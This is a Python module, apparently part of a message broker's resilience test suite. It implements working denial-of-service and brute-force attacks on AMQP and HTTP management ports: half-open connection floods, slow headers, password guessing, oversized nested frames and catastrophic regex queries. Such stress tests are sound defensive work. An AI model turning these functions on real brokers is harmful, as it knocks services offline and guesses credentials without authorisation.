"""What an attacker does to a broker, for as long as it is let: each in a process of its own."""

from __future__ import annotations

import base64
import contextlib
import http.client
import resource
import socket
import time
from typing import TYPE_CHECKING, Final, NamedTuple

from tests.helpers.session import handshake, method

if TYPE_CHECKING:
    from collections.abc import Callable

__all__ = ["ATTACKS", "CROWD", "Target", "crowd"]

HALF_OPEN_MAX: Final = 10_000
CROWD: Final = 10_000
CROWD_OCTETS_PER_S: Final = 1_000
SLOW_MAX: Final = 2_000
PROTOCOL_HEADER: Final = b"AMQP\x00\x00\x09\x01"


class Target(NamedTuple):
    """Where a broker is, and an account on it that may look at things."""

    host: str
    amqp_port: int
    http_port: int
    user: str
    password: str


def _connect(host: str, port: int) -> socket.socket:
    return socket.create_connection((host, port), timeout=5)


def _hold(target: Target, port: int, count: int, greeting: bytes) -> None:
    """Open so many sockets, say something that is no whole thing, and hold them for ever."""
    hard = _raise_descriptors()
    held: list[socket.socket] = []
    while True:
        try:
            one = _connect(target.host, port)
            one.sendall(greeting)
            held.append(one)
        except OSError:
            time.sleep(0.01)

        if len(held) >= min(count, hard - 100):
            # All of them are open, as far as the broker lets them be: now again.
            for one in held[: len(held) // 10]:
                one.close()

            del held[: len(held) // 10]
            time.sleep(0.1)


def half_open(target: Target) -> None:
    """Sockets that have said how they begin, and nothing after it."""
    _hold(target, target.amqp_port, HALF_OPEN_MAX, PROTOCOL_HEADER)


def crowd(target: Target) -> None:
    """Ten thousand handshakes at a time, each an octet at a time: for a broker that lets them."""
    _raise_descriptors()
    greeting = handshake()
    waiting: list[socket.socket] = []
    while len(waiting) < CROWD:
        with contextlib.suppress(OSError):
            one = _connect(target.host, target.amqp_port)
            one.sendall(PROTOCOL_HEADER)
            waiting.append(one)

    for octet in greeting[len(PROTOCOL_HEADER) :]:
        for one in waiting:
            with contextlib.suppress(OSError):
                one.sendall(bytes((octet,)))

            time.sleep(1 / CROWD_OCTETS_PER_S)


def _raise_descriptors() -> int:
    _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    return hard


def slow_headers(target: Target) -> None:
    """Requests whose headers never end."""
    _hold(target, target.http_port, SLOW_MAX, b"GET /api/overview HTTP/1.1\r\nhost: x\r\n")


def guess_passwords(target: Target) -> None:
    """One wrong password after the other."""
    number = 0
    while True:
        number += 1
        with contextlib.suppress(OSError), _connect(target.host, target.amqp_port) as one:
            one.sendall(handshake(user=target.user, password=f"guess-{number}"))
            while one.recv(4096):
                pass


def guess_passwords_over_http(target: Target) -> None:
    """The same with basic authentication."""
    number = 0
    while True:
        number += 1
        token = base64.b64encode(f"{target.user}:guess-{number}".encode()).decode()
        with contextlib.suppress(OSError, http.client.HTTPException):
            connection = http.client.HTTPConnection(target.host, target.http_port, timeout=5)
            connection.request("GET", "/api/whoami", headers={"authorization": f"Basic {token}"})
            connection.getresponse().read()
            connection.close()


def oversized_everything(target: Target) -> None:
    """Frames, tables and heartbeats that are too large, too deep or too many."""
    deep = b""
    for _ in range(200):
        deep = b"\x01aF" + len(deep).to_bytes(4, "big") + deep

    payload = bytes.fromhex("000a000b") + len(deep).to_bytes(4, "big") + deep
    inputs = [
        PROTOCOL_HEADER + b"\x01\x00\x00\xff\xff\xff\xff",
        PROTOCOL_HEADER + b"\x01\x00\x00" + len(payload).to_bytes(4, "big") + payload + b"\xce",
        PROTOCOL_HEADER + b"\x08\x00\x00\x00\x00\x00\x00\xce" * 200_000,
        b"GET / HTTP/1.1\r\n" + b"x" * 100_000,
        handshake() + method(1, "basic.publish") * 1_000,
    ]
    while True:
        for data in inputs:
            with contextlib.suppress(OSError), _connect(target.host, target.amqp_port) as one:
                one.sendall(data)


def regular_expressions(target: Target) -> None:
    """A user who may look asks with patterns that take for ever."""
    token = base64.b64encode(f"{target.user}:{target.password}".encode()).decode()
    headers = {"authorization": f"Basic {token}"}
    while True:
        with contextlib.suppress(OSError, http.client.HTTPException):
            connection = http.client.HTTPConnection(target.host, target.http_port, timeout=30)
            for pattern in ("(a|a)*b", "(.*)*x", ".*.*.*.*%3D", "(a%2B)%2B%24"):
                path = f"/api/queues?page=1&use_regex=true&name={pattern}"
                connection.request("GET", path, headers=headers)
                connection.getresponse().read()


ATTACKS: Final[dict[str, Callable[[Target], None]]] = {
    "half-open": half_open,
    "slow-headers": slow_headers,
    "guessing": guess_passwords,
    "guessing-http": guess_passwords_over_http,
    "oversized": oversized_everything,
    "patterns": regular_expressions,
}
